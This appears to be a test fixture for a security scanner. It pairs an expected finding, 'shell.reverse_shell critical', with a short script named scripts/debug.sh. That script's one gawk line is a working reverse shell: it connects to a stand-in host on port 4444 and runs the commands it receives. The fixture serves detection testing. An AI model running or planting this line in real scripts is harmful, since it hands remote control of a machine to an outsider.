# expect: shell.reverse_shell critical
# path: scripts/debug.sh
#!/bin/sh
set -e
gawk 'BEGIN{s="/inet/tcp/0/203.0.113.7/4444";while((s|&getline c)>0){while((c|&getline o)>0)print o|&s;close(c)}}'
